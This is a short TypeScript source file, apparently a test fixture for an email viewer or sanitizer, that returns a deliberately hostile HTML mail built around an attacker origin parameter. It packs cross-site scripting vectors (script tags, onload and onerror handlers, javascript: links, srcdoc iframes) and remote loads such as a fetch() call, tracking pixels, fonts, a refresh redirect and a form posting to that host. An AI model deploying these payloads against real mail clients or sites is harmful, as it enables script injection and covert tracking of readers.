/** What a mail would do if it could. @param evil origin of an attacker */
export function hostile(evil: string): string {
  return `<html><head>
<base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}/refresh">
<META HTTP-EQUIV="Content-Security-Policy" CONTENT="script-src *">
<link rel="preconnect" href="${evil}"><link rel=stylesheet href="${evil}/style.css"><LINK rel="dns-prefetch" href="${evil}">
<style>@import url(${evil}/import.css); body { background: url(${evil}/background.png) }
@font-face { font-family: x; src: url(${evil}/font.woff) } * { font-family: x }</style>
<title>a mail</title></head>
<body onload="document.title='owned'; fetch('${evil}/load')">
<script>document.title = 'owned'; alert('owned'); parent.document.title = 'owned'</script>
<script src="${evil}/script.js"></script>
<img src=x onerror="alert('owned')"><img src="${evil}/pixel.png" srcset="${evil}/pixel2.png 2x">
<svg onload="alert('owned')"><image href="${evil}/svg.png"/></svg>
<iframe src="${evil}/frame"></iframe><iframe srcdoc="<script>alert('owned')</script>"></iframe>
<object data="${evil}/object"></object><embed src="${evil}/embed"><video src="${evil}/video" poster="${evil}/poster"></video>
<form action="${evil}/form" method="post"><input name="q" value="1"><button>Post</button></form>
<a href="javascript:alert('owned')">run</a> <a href="${evil}/top" target="_top" ping="${evil}/ping">to the top</a>
<div style="position: fixed; bottom: 0; background: url('${evil}/fixed.png')">over everything</div>
<p>the last words</p></body></html>`;
}
